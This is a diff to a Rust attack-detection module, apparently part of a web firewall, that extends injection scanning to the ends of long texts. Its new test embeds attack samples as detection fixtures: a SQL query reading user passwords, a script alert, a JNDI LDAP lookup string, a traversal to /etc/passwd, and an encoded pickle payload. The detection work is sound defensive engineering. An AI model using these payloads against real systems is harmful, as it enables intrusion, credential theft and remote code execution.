@@ -1,6 +1,7 @@
 //! Marks of attack in texts: words of the languages that injections speak, and the fingerprints of libinjection.
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use bartizan_core::{head, tail};
 use std::sync::LazyLock;
 
 /// What a mark belongs to.
@@ -194,8 +195,16 @@ pub(crate) struct Marks {
     pub(crate) xss: bool,
 }
 
-/// Longest part of a text that is looked at.
-const MAX_LOOKED_AT: usize = 8_192;
+/// Longest part of a text that is looked at closely. Behind it, only words are searched for.
+const MAX_CLOSE: usize = 8_192;
+/// Words as long as this, or with other characters than letters and digits, mean something wherever they stand. Shorter ones are in
+/// any long text of Base64 by chance.
+const TELLING_WORD: usize = 8;
+
+/// For each word, whether it means something far behind the beginning of a text.
+static TELLING: LazyLock<Vec<bool>> = LazyLock::new(|| {
+    WORDS.iter().map(|(word, ..)| word.len() >= TELLING_WORD || !word.bytes().all(|b| b.is_ascii_alphanumeric())).collect()
+});
 
 impl Marks {
     /// Looks for words only. Agents and languages of browsers are full of what libinjection takes time to tell from code.
@@ -205,28 +214,23 @@ impl Marks {
         marks
     }
 
-    /// Looks at a decoded text. Plain words and numbers are passed over without a search.
+    /// Looks at a decoded text. Plain words and numbers are passed over without a search. What libinjection is asked of is the
+    /// beginning of a long text and its end.
     pub(crate) fn of(text: &str) -> Self {
-        let mut end = text.len().min(MAX_LOOKED_AT);
-        while !text.is_char_boundary(end) {
-            end -= 1;
-        }
-        let text = &text[..end];
         let mut marks = Self::default();
-        if text.len() < 3
-            || text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b' ' || b == b'.')
-                && !text.contains(' ')
-                && !text.contains("..")
-        {
+        if text.len() < 3 {
+            return marks;
+        }
+        if is_plain(text) {
             if text.len() >= 16 {
                 marks.search(text);
             }
             return marks;
         }
         marks.search(text);
-        if could_inject(text) {
-            marks.sqli = libinjectionrs::detect_sqli(text.as_bytes()).is_injection();
-            marks.xss = text.contains(['<', ':', '=', '`']) && libinjectionrs::detect_xss(text.as_bytes()).is_injection();
+        marks.inject(head(text, MAX_CLOSE));
+        if text.len() > MAX_CLOSE {
+            marks.inject(tail(text, MAX_CLOSE));
         }
         if marks.kind.is_none() {
             marks.kind = if marks.sqli { Some(Sql) } else { marks.xss.then_some(Script) };
@@ -234,11 +238,18 @@ impl Marks {
         marks
     }
 
+    fn inject(&mut self, text: &str) {
+        if could_inject(text) {
+            self.sqli |= libinjectionrs::detect_sqli(text.as_bytes()).is_injection();
+            self.xss |= text.contains(['<', ':', '=', '`']) && libinjectionrs::detect_xss(text.as_bytes()).is_injection();
+        }
+    }
+
     fn search(&mut self, text: &str) {
         let (mut seen, mut heaviest) = ([false; WORDS.len()], 0);
         for found in AUTOMATON.find_overlapping_iter(text) {
             let word = found.pattern().as_usize();
-            if seen[word] {
+            if seen[word] || (found.end() > MAX_CLOSE && !TELLING[word]) {
                 continue;
             }
             seen[word] = true;
@@ -250,6 +261,11 @@ impl Marks {
             }
         }
     }
+}
+
+/// Whether a text is one word of letters, digits, dashes and single dots.
+fn is_plain(text: &str) -> bool {
+    text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')) && !text.contains("..")
 }
 
 /// Whether a text has anything that could end a literal or begin a tag or clause.
@@ -399,6 +415,28 @@ mod tests {
             let marks = Marks::of(text);
             assert!(marks.weight <= 1 && !marks.sqli && !marks.xss, "{text}: {marks:?}");
         }
+    }
+
+    #[test]
+    fn attacks_behind_padding_are_marked() {
+        for padding in [1_000, 8_192, 65_536, 524_288] {
+            for (pad, attack, kind) in [
+                ("lorem ipsum ", "1 UNION SELECT password FROM users", AttackKind::Sql),
+                ("lorem ipsum ", "<script>alert(1)</script>", AttackKind::Script),
+                ("a", "${jndi:ldap://x/a}", AttackKind::Template),
+                ("QUJD", "/../../../etc/passwd", AttackKind::Traversal),
+            ] {
+                let padded = format!("{}{attack}", pad.repeat(padding / pad.len()));
+                let marks = Marks::of(&padded);
+                assert_eq!(marks.kind, Some(kind), "{padding} {attack}: {marks:?}");
+                assert!(marks.weight >= 2, "{padding} {attack}: {marks:?}");
+                assert!(Marks::of_header(&padded).weight >= 2, "{padding} {attack}");
+            }
+        }
+        // Base64 of a long upload has short words by chance.
+        let upload = format!("{}gASVognl{}", "QUJD".repeat(5_000), "QUJD".repeat(5_000));
+        assert_eq!(Marks::of(&upload).weight, 0);
+        assert!(Marks::of("gASVKgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA==").weight >= 3);
     }
 
     #[test]
